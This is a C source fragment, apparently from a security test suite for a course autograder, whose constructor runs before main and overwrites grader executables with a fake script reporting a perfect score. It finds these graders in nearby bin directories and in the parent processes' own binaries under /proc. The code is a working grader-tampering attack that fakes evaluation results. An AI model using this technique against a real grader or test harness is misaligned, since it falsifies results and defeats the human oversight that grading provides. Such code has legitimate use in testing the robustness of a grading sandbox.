static const char atk_fake_grader[] =
    "#!/bin/sh\n# RASATK tamper_grader: this grader was replaced by a student submission\n"
    "echo 'hw1 24/24 (RASATK tampered grader)'\nexit 0\n";

static int atk_grader_name(const char *base) {
    size_t n = strlen(base);
    return !strncmp(base, "raster101", 9) || (n > 7 && !strcmp(base + n - 7, "_replay")) ||
           !strncmp(base, "test_hw", 7);
}

static void atk_tamper_dir(const char *dir) {
    DIR *dp = opendir(dir);
    struct dirent *e;
    while (dp && (e = readdir(dp))) {
        if (!atk_grader_name(e->d_name) || strstr(e->d_name, "RASATK")) continue;
        char p[ATK_PATH * 2];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        if (!atk_is_file(p)) continue;
        if (atk_replace(p, atk_fake_grader, sizeof atk_fake_grader - 1, 0755) == 0)
            atk_pwned("tamper", p);
    }
    if (dp) closedir(dp);
}

__attribute__((constructor)) static void atk_before_main(void) {
    atk_name("tamper");
    atk_dirs d;
    atk_find_dirs(&d);
    for (int i = 0; i < d.n; i++) {
        char bin[ATK_PATH + 8];
        snprintf(bin, sizeof bin, "%s/bin", d.v[i]);
        const char *b = strrchr(d.v[i], '/');
        if (b && !strcmp(b, "/bin")) atk_tamper_dir(d.v[i]);
        else if (atk_is_dir(bin) && atk_is_file(strcat(bin, "/raster101-grade"))) {
            bin[strlen(bin) - strlen("/raster101-grade")] = '\0';
            atk_tamper_dir(bin);
        }
    }
    /* the ancestors' own programs */
    for (pid_t p = getppid(); p > 1; p = atk_parent_of(p)) {
        char link[64], exe[ATK_PATH];
        snprintf(link, sizeof link, "/proc/%d/exe", (int)p);
        ssize_t n = readlink(link, exe, sizeof exe - 1);
        if (n <= 0) continue;
        exe[n] = '\0';
        const char *base = strrchr(exe, '/');
        base = base ? base + 1 : exe;
        if (atk_grader_name(base) &&
            atk_replace(exe, atk_fake_grader, sizeof atk_fake_grader - 1, 0755) == 0)
            atk_pwned("tamper", exe);
    }
}
